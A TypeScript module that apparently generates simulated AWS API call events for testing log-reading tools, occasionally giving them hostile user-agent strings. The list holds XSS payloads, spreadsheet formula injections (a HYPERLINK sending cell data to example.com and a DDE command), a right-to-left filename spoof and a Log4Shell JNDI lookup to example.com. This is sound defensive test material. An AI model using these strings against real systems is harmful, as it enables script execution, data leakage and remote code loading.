import type { Habit } from '../seed/habits.ts';
import type { VpcEndpointState } from '../world/state.ts';
import { getApiAction } from './api-actions.ts';
import { chanceAt, createRandom, type Random } from './random.ts';
import type { ServiceCall } from './service-call.ts';

export interface Round {
  /** Of the seed, so that another seed lives another life. */
  readonly seed: string;
  /** The instant, epoch milliseconds, and how far rounds are apart. */
  readonly atMs: number;
  readonly stepMs: number;
}

/** A habit whose endpoint is there. */
interface LivedHabit {
  readonly habit: Habit;
  readonly number: number;
  readonly endpoint: VpcEndpointState | undefined;
}

/** The habits that can be lived with these endpoints: one whose endpoint is gone rests. */
export function listLivedHabits(
  habits: readonly Habit[],
  endpoints: readonly VpcEndpointState[],
): readonly LivedHabit[] {
  return habits.flatMap((habit, number) => {
    const endpoint = endpoints.find(({ name }) => name === habit.via);
    return typeof habit.via === 'string' && endpoint === undefined ? [] : [{ habit, number, endpoint }];
  });
}

/**
 * The calls of one round. They follow from the seed and the instant alone: nothing has to be remembered between two
 * rounds, and a round played again after a crash gives the same calls with the same event IDs.
 */
export function playRound(
  habits: readonly LivedHabit[],
  { seed, atMs, stepMs }: Round,
): readonly ServiceCall[] {
  const index = Math.floor(atMs / stepMs);
  const calls: ServiceCall[] = [];
  for (const { habit, number, endpoint } of habits) {
    const isDue =
      habit.steady === undefined
        ? chanceAt(number, index) * habit.every < 1
        : index % habit.every === habit.steady;
    if (!isDue) continue;
    const call = toCall(habit, endpoint, atMs, createRandom(`${seed}/${number}/${atMs}`));
    if (call !== undefined) calls.push(call);
  }
  return calls;
}

function toCall(
  habit: Habit,
  endpoint: VpcEndpointState | undefined,
  atMs: number,
  random: Random,
): ServiceCall | undefined {
  const region = endpoint?.region ?? (typeof habit.via === 'string' ? undefined : habit.via.region);
  if (region === undefined) return undefined;
  return {
    timeMs: Math.floor(atMs / 1000) * 1000,
    region,
    action: getApiAction(habit.action),
    principal: habit.principal,
    sourceIPAddress:
      habit.from ?? `10.${20 + random.integer(4)}.${random.integer(4)}.${10 + random.integer(20)}`,
    userAgent: pickUserAgent(random),
    resourceARN: (habit.resource ?? '').replace('#', String(100 + random.integer(150))),
    ...(endpoint === undefined ? {} : { vpcEndpoint: endpoint }),
    isDeniedByIam: habit.deniedByIam ?? false,
    requestID: random.uuid(),
    sharedEventID: random.uuid(),
    eventIDs: [random.uuid(), random.uuid(), random.uuid()],
  };
}

/** Anybody may send any user agent; every fortieth or so is an attack on whoever reads the log. */
function pickUserAgent(random: Random): string {
  return random.next() < 0.025
    ? random.pick(HOSTILE_USER_AGENTS)
    : random.pick([
        'aws-sdk-java/2.31.4 md/io#sync md/http#Apache Linux/6.1',
        'Boto3/1.43.11 md/Botocore#1.43.11 ua/2.1 os/linux#6.1 lang/python#3.13',
        'aws-cli/2.31.2 md/awscrt#0.27.6 ua/2.1 os/linux#6.1 exec-env/EC2',
        'aws-sdk-go-v2/1.39.0 os/linux lang/go#1.25.1',
      ]);
}

const HOSTILE_USER_AGENTS: readonly [string, ...string[]] = [
  '<script>alert("userAgent")</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.com/?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  'curl/8.9 \u202Egnp.exe\u202C \u0007 \x24{jndi:ldap://example.com/a}',
];
